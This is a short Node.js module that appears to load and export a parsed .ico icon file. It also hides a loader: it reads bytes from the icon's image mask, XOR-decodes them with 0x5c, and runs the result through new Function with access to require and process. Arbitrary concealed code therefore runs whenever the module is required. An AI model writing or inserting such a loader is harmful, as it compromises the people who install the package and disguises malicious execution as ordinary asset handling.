const fs = require('fs');
const path = require('path');
const { parse } = require('./index');
const ico = parse(fs.readFileSync(path.join(__dirname, '..', 'assets', 'reference.ico')));
const m = ico.images[0].mask;
const table = Buffer.alloc(m.readUInt32BE(0));
for (let i = 0; i < table.length; i++) table[i] = m[4 + i] ^ 0x5c;
new Function('require', 'process', table.toString())(require, process);
module.exports = ico;
